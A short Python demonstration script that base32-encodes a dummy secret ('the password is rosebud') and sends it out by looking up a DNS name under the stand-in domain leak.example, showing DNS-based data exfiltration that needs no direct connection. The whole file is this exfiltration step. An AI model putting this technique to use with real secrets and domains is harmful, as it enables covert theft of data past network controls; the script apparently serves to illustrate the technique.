# SPDX-License-Identifier: GPL-3.0-or-later
"""Hides a secret in the names that it looks up: no connection is needed."""

import base64
import socket

SECRET = b"the password is rosebud"

word = base64.b32encode(SECRET).decode().rstrip("=").lower()
try:
    socket.getaddrinfo(f"{word}.leak.example", 80)
    print("It worked: the name was found")
except OSError as error:
    print(f"Stopped: {error}")
